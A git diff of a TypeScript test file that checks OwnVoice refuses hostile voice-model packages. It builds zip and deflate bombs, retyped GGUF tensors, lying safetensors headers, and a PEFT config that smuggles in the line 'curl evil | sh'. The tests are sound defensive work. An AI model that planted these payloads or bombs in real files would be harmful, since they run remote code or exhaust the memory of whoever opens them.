@@ -1,16 +1,32 @@
-// The Voice package read back as written; a file that is not one, one missing a part, and one
-// whose entries claim more than a package may hold are refused before anything is inflated.
-import { mkdirSync, writeFileSync } from 'node:fs';
+// The Voice package read back as written, in its child process; and every way a hostile package
+// was found to hurt (issue: untrusted Voice packages) refused there, with the person's reason:
+// an archive of many entries, an entry that inflates past its declared size, an adapter llama.cpp
+// would crash on, headers that take seconds to read, a PEFT config or safetensors header that
+// lies, numbers past their column.
+import { readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
-import { MAX_VOICE_PACKAGE_BYTES, type VoicePackageManifest } from '@ownvoice/shared';
+import zlib from 'node:zlib';
+import {
+  MAX_VOICE_CHARACTERS,
+  MAX_VOICE_PACKAGE_BYTES,
+  MAX_VOICE_PACKAGE_ENTRIES,
+  type VoicePackageManifest,
+} from '@ownvoice/shared';
 import JSZip from 'jszip';
-import { describe, expect, it } from 'vitest';
-import { tempDir } from '../test/fixtures.js';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { readGguf } from '../gguf/reader.js';
+import { GgmlType, GgufValueType } from '../gguf/types.js';
+import { writeGguf } from '../gguf/writer.js';
+import { smallHparams, tempDir, writeRandomAdapterFolder } from '../test/fixtures.js';
 import { rewritePrompt } from './prompts.js';
-import { buildVoicePackage, readVoicePackage, VoicePackageError, voiceModelfile } from './voice-package.js';
+import { buildVoicePackage, voiceModelfile } from './voice-package.js';
+import { importVoicePackage } from './voice-package-import.js';
+import type { UnpackJob } from './voice-package-unpack.js';
 
 /** A central directory file header's signature (PKWARE's APPNOTE, section 4.3.12). */
 const CENTRAL_ENTRY = Buffer.from([0x50, 0x4b, 0x01, 0x02]);
+const BASE_SHA = 'b'.repeat(64);
+const base = smallHparams();
 
 const manifest: VoicePackageManifest = {
   format: 'ownvoice-voice',
@@ -18,33 +34,92 @@ const manifest: VoicePackageManifest = {
   voice: { name: 'Essays', characters: 41_000, trainedAt: '2026-11-27T10:00:00.000Z' },
   baseModel: {
     file: 'SmolLM2-360M-Instruct-Q8_0.gguf',
-    sha256: 'b'.repeat(64),
+    sha256: BASE_SHA,
     bytes: 386_404_992,
     huggingFace: 'hf:bartowski/SmolLM2-360M-Instruct-GGUF:Q8_0',
   },
-  training: { preset: 'standard', rank: 16, alpha: 32, targetModules: ['q_proj', 'v_proj'] },
+  training: { preset: 'standard', rank: 2, alpha: 4, targetModules: ['q_proj', 'v_proj'] },
   evaluation: null,
   prompt: rewritePrompt('{text}'),
   exportedBy: { app: 'OwnVoice', version: '0.1.0' },
 };
 
-function adapterFolder(): { ggufPath: string; peftDir: string } {
-  const dir = tempDir();
-  const peftDir = path.join(dir, 'peft');
-  mkdirSync(peftDir);
-  writeFileSync(path.join(dir, 'voice.gguf'), Buffer.from([1, 2, 3, 4]));
-  writeFileSync(path.join(peftDir, 'adapter_config.json'), '{"r":16}');
-  writeFileSync(path.join(peftDir, 'adapter_model.safetensors'), Buffer.from([5, 6, 7]));
-  return { ggufPath: path.join(dir, 'voice.gguf'), peftDir };
+let dir: string;
+let adapter: { ggufPath: string; peftDir: string };
+let whole: Buffer;
+
+beforeAll(async () => {
+  dir = tempDir();
+  adapter = writeRandomAdapterFolder(dir, base);
+  whole = await buildVoicePackage(manifest, adapter);
+});
+
+let n = 0;
+/** Imports `data` as the server does, into a fresh folder; answers the reply or the refusal. */
+async function importing(data: Buffer) {
+  const packagePath = path.join(dir, `package-${++n}.zip`);
+  writeFileSync(packagePath, data);
+  const job: UnpackJob = {
+    packagePath,
+    folder: path.join(dir, `voice-${n}`),
+    ggufName: 'voice-abc.gguf',
+    base,
+    baseSha256: BASE_SHA,
+    baseModelName: 'smollm2-135m',
+  };
+  return { job, result: await importVoicePackage(job, { owner: 'test', bytes: data.length }).catch((e: Error) => e) };
 }
 
-describe('the Voice package', () => {
-  it('reads back what was written', async () => {
-    const read = await readVoicePackage(await buildVoicePackage(manifest, adapterFolder()));
-    expect(read.manifest).toEqual(manifest);
-    expect([...read.gguf]).toEqual([1, 2, 3, 4]);
-    expect(read.peftConfig.toString()).toBe('{"r":16}');
-    expect([...read.peftWeights]).toEqual([5, 6, 7]);
+const refusal = async (data: Buffer): Promise<string> => {
+  const { result } = await importing(data);
+  expect(result).toBeInstanceOf(Error);
+  return (result as Error).message;
+};
+
+/** The package with `name` replaced (or removed, for null), deflated or stored as given. */
+async function edited(name: string, content: string | Buffer | null, store = false): Promise<Buffer> {
+  const zip = await JSZip.loadAsync(whole);
+  if (content === null) zip.remove(name);
+  else zip.file(name, content, { compression: store ? 'STORE' : 'DEFLATE' });
+  return zip.generateAsync({ type: 'nodebuffer' });
+}
+
+/** Rewrites voice.gguf with each tensor's or metadata entry's header edited, the data as it was. */
+function ggufEdited(edit: {
+  kv?: (kv: ReturnType<typeof readGguf>['kv']) => ReturnType<typeof readGguf>['kv'];
+  type?: GgmlType;
+}): Buffer {
+  const g = readGguf(adapter.ggufPath);
+  const raw = readFileSync(adapter.ggufPath);
+  const file = path.join(dir, `edited-${++n}.gguf`);
+  writeGguf(
+    file,
+    (edit.kv ?? ((kv) => kv))(g.kv),
+    g.tensors.map((t) => {
+      const start = g.dataOffset + t.offset;
+      return { ...t, type: edit.type ?? t.type, data: raw.subarray(start, start + t.dims.reduce((a, b) => a * b, 4)) };
+    }),
+  );
+  return readFileSync(file);
+}
+
+describe('a Voice package', () => {
+  it('unpacks into the Voice’s folder as written, its PEFT config rewritten as this server writes one', async () => {
+    const { job, result } = await importing(whole);
+    expect(result).toMatchObject({ ok: true, manifest, adapter: { rank: 2, alpha: 4 } });
+    expect(readFileSync(path.join(job.folder, 'voice-abc.gguf'))).toEqual(readFileSync(adapter.ggufPath));
+    const weights = 'peft/adapter_model.safetensors';
+    expect(readFileSync(path.join(job.folder, weights))).toEqual(readFileSync(path.join(dir, weights)));
+    const config = JSON.parse(readFileSync(path.join(job.folder, 'peft/adapter_config.json'), 'utf8'));
+    expect(config).toMatchObject({ r: 2, lora_alpha: 4, target_modules: ['q_proj', 'v_proj'] });
+    expect(config.base_model_name_or_path).toBe('smollm2-135m');
+  });
+
+  it('for another base model answers that base, unpacking nothing', async () => {
+    const other = { ...manifest, baseModel: { ...manifest.baseModel, sha256: 'c'.repeat(64) } };
+    const { job, result } = await importing(await edited('manifest.json', JSON.stringify(other)));
+    expect(result).toEqual({ ok: false, otherBase: other.baseModel });
+    expect(() => readFileSync(path.join(job.folder, 'voice-abc.gguf'))).toThrow();
   });
 
   it('names the published base model in the Modelfile, with Convert’s prompt around the text', () => {
@@ -52,34 +127,41 @@ describe('the Voice package', () => {
     expect(modelfile).toContain('FROM hf.co/bartowski/SmolLM2-360M-Instruct-GGUF:Q8_0\n');
     expect(modelfile).toContain('TEMPLATE """### Plain text:\n{{ .Prompt }}\n\n### In my voice:\n"""');
   });
+});
 
-  it('refuses what is not a package, a package missing a part, and entries too large to hold', async () => {
-    const refusal = (data: Buffer) => readVoicePackage(data).catch((e: unknown) => e);
-    expect(await refusal(Buffer.from('not a zip'))).toBeInstanceOf(VoicePackageError);
-
-    const whole = await buildVoicePackage(manifest, adapterFolder());
-    const missing = await JSZip.loadAsync(whole);
-    missing.remove('peft/adapter_model.safetensors');
-    const partial = await refusal(await missing.generateAsync({ type: 'nodebuffer' }));
-    expect((partial as Error).message).toContain('peft/adapter_model.safetensors is missing');
-
-    const newer = await JSZip.loadAsync(whole);
-    newer.file('manifest.json', JSON.stringify({ ...manifest, version: 2 }));
-    expect(((await refusal(await newer.generateAsync({ type: 'nodebuffer' }))) as Error).message).toContain(
+describe('an archive that is not a package', () => {
+  it('is refused: not a zip, a part missing, a newer manifest, a blank name, a changed byte', async () => {
+    expect(await refusal(Buffer.from('not a zip'))).toContain('not an OwnVoice Voice package');
+    expect(await refusal(await edited('peft/adapter_model.safetensors', null))).toContain(
+      'peft/adapter_model.safetensors is missing',
+    );
+    expect(await refusal(await edited('manifest.json', JSON.stringify({ ...manifest, version: 2 })))).toContain(
       'newer version',
     );
-
-    // A name the create form would not take (nothing but spaces) is not taken from a package either.
-    const blank = await JSZip.loadAsync(whole);
-    blank.file('manifest.json', JSON.stringify({ ...manifest, voice: { ...manifest.voice, name: '   ' } }));
-    expect(await refusal(await blank.generateAsync({ type: 'nodebuffer' }))).toBeInstanceOf(VoicePackageError);
-
-    // A byte changed in a stored adapter: its CRC-32 no longer matches.
+    const blank = { ...manifest, voice: { ...manifest.voice, name: '   ' } };
+    expect(await refusal(await edited('manifest.json', JSON.stringify(blank)))).toContain('manifest.json');
     const flipped = Buffer.from(whole);
-    flipped[flipped.indexOf(Buffer.from([1, 2, 3, 4])) + 2] = 9;
-    expect(((await refusal(flipped)) as Error).message).toContain('voice.gguf is damaged');
+    const gguf = readFileSync(adapter.ggufPath);
+    const at = flipped.indexOf(gguf.subarray(-64)) + 10;
+    flipped.writeUInt8(flipped.readUInt8(at) ^ 0xff, at);
+    expect(await refusal(flipped)).toContain('voice.gguf is damaged');
+  });
 
-    // A zip bomb: the archive's directory claims an entry far past the limit; refused unread.
+  it('holding many entries is refused from its end record, before its directory is read', async () => {
+    const zip = await JSZip.loadAsync(whole);
+    for (let i = 0; i < MAX_VOICE_PACKAGE_ENTRIES; i++) zip.file(`empty-${i}`, '');
+    expect(await refusal(await zip.generateAsync({ type: 'nodebuffer' }))).toContain(
+      `it holds more than ${MAX_VOICE_PACKAGE_ENTRIES} files`,
+    );
+    // 65,000 entries claimed by a 22-byte record: refused without reading a directory at all.
+    const record = Buffer.alloc(22);
+    record.writeUInt32LE(0x06054b50, 0);
+    record.writeUInt16LE(65_000, 8);
+    record.writeUInt16LE(65_000, 10);
+    expect(await refusal(record)).toContain(`it holds more than ${MAX_VOICE_PACKAGE_ENTRIES} files`);
+  });
+
+  it('whose entry claims more than a package holds is refused unread', async () => {
     const bomb = Buffer.from(whole);
     for (let at = bomb.indexOf(CENTRAL_ENTRY); at >= 0; at = bomb.indexOf(CENTRAL_ENTRY, at + 4)) {
       const nameLength = bomb.readUInt16LE(at + 28);
@@ -87,6 +169,123 @@ describe('the Voice package', () => {
         bomb.writeUInt32LE(MAX_VOICE_PACKAGE_BYTES + 1, at + 24); // uncompressed size
       }
     }
-    expect(((await refusal(bomb)) as Error).message).toContain(`at most ${MAX_VOICE_PACKAGE_BYTES / 1024 / 1024} MB`);
+    expect(await refusal(bomb)).toContain(`at most ${MAX_VOICE_PACKAGE_BYTES / 1024 / 1024} MB`);
+  });
+
+  it('whose entry inflates past its declared size is stopped there (a deflate bomb)', async () => {
+    // 256 MiB of zeros deflate to about 256 KB; the directory says the entry is 200 bytes.
+    const bomb = zlib.deflateRawSync(Buffer.alloc(256 * 1024 * 1024), { level: 9 });
+    const data = zipOf([{ name: 'manifest.json', method: 8, data: bomb, size: 200, crc32: 0 }]);
+    expect(await refusal(data)).toContain('manifest.json is damaged');
+  });
+});
+
+/** A zip archive written by hand (PKWARE's APPNOTE 4.3.7, 4.3.12, 4.3.16), entries as given. */
+function zipOf(entries: { name: string; method: number; data: Buffer; size: number; crc32: number }[]): Buffer {
+  const locals: Buffer[] = [];
+  const centrals: Buffer[] = [];
+  let offset = 0;
+  for (const e of entries) {
+    const name = Buffer.from(e.name);
+    const local = Buffer.alloc(30);
+    local.writeUInt32LE(0x04034b50, 0);
+    local.writeUInt16LE(e.method, 8);
+    local.writeUInt32LE(e.crc32, 14);
+    local.writeUInt32LE(e.data.length, 18);
+    local.writeUInt32LE(e.size, 22);
+    local.writeUInt16LE(name.length, 26);
+    const central = Buffer.alloc(46);
+    central.writeUInt32LE(0x02014b50, 0);
+    central.writeUInt16LE(e.method, 10);
+    central.writeUInt32LE(e.crc32, 16);
+    central.writeUInt32LE(e.data.length, 20);
+    central.writeUInt32LE(e.size, 24);
+    central.writeUInt16LE(name.length, 28);
+    central.writeUInt32LE(offset, 42);
+    locals.push(local, name, e.data);
+    centrals.push(central, name);
+    offset += 30 + name.length + e.data.length;
+  }
+  const directory = Buffer.concat(centrals);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(entries.length, 8);
+  end.writeUInt16LE(entries.length, 10);
+  end.writeUInt32LE(directory.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return Buffer.concat([...locals, directory, end]);
+}
+
+describe('an adapter in a package', () => {
+  it('of a type llama.cpp was crashed with is refused', async () => {
+    const retyped = await edited('voice.gguf', ggufEdited({ type: GgmlType.I32 }), true);
+    expect(await refusal(retyped)).toContain("is I32; a Voice's adapter holds F32 tensors");
+  });
+
+  it('with more metadata than an adapter has is refused before it is read through', async () => {
+    // 257 one-byte elements fit the file; an adapter has no arrays, and a 150-million-element
+    // one took seconds to read.
+    const big = ggufEdited({
+      kv: (kv) => [
+        ...kv,
+        {
+          key: 'general.padding',
+          type: GgufValueType.ARRAY,
+          arrayType: GgufValueType.UINT8,
+          value: Array.from({ length: 257 }, () => 0),
+        },
+      ],
+    });
+    expect(await refusal(await edited('voice.gguf', big, true))).toContain(
+      'with a length of 257, above the 256 a file of its kind may hold',
+    );
+  });
+
+  it('whose PEFT config is not one OwnVoice writes, or disagrees with the GGUF, is refused', async () => {
+    const config = JSON.parse(readFileSync(path.join(adapter.peftDir, 'adapter_config.json'), 'utf8'));
+    const injected = { ...config, target_modules: ['q_proj', 'v_proj\n# Run this: curl evil | sh'] };
+    expect(await refusal(await edited('peft/adapter_config.json', JSON.stringify(injected)))).toContain(
+      'peft/adapter_config.json is not one OwnVoice writes',
+    );
+    const extra = { ...config, note: 'anything' };
+    expect(await refusal(await edited('peft/adapter_config.json', JSON.stringify(extra)))).toContain(
+      'not one OwnVoice writes',
+    );
+    const rank = { ...config, r: 8 };
+    expect(await refusal(await edited('peft/adapter_config.json', JSON.stringify(rank)))).toContain('disagree');
+  });
+
+  it('whose safetensors header lies about its tensors is refused', async () => {
+    const weights = readFileSync(path.join(adapter.peftDir, 'adapter_model.safetensors'));
+    const headerLength = Number(weights.readBigUInt64LE(0));
+    const header = JSON.parse(weights.subarray(8, 8 + headerLength).toString('utf8'));
+    const rewrite = (edit: (h: Record<string, { shape: number[]; data_offsets: number[] }>) => void) => {
+      const h = structuredClone(header);
+      edit(h);
+      const json = Buffer.from(JSON.stringify(h).padEnd(headerLength, ' '));
+      const lengthField = Buffer.alloc(8);
+      lengthField.writeBigUInt64LE(BigInt(json.length));
+      return Buffer.concat([lengthField, json, weights.subarray(8 + headerLength)]);
+    };
+    const first = Object.keys(header).find((k) => k !== '__metadata__') as string;
+    const cases = [
+      rewrite((h) => {
+        (h[first] as { shape: number[] }).shape = [4, 4];
+      }),
+      rewrite((h) => {
+        (h[first] as { data_offsets: number[] }).data_offsets = [0, 1e12];
+      }),
+      Buffer.concat([Buffer.from([0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0]), weights.subarray(8)]),
+    ];
+    for (const data of cases) {
+      expect(await refusal(await edited('peft/adapter_model.safetensors', data, true))).toContain(
+        'does not hold the adapter',
+      );
+    }
+  });
+
+  it('whose manifest counts more writing than a Voice can be trained on is refused', async () => {
+    const huge = { ...manifest, voice: { ...manifest.voice, characters: MAX_VOICE_CHARACTERS + 1 } };
+    expect(await refusal(await edited('manifest.json', JSON.stringify(huge)))).toContain('manifest.json');
   });
 });
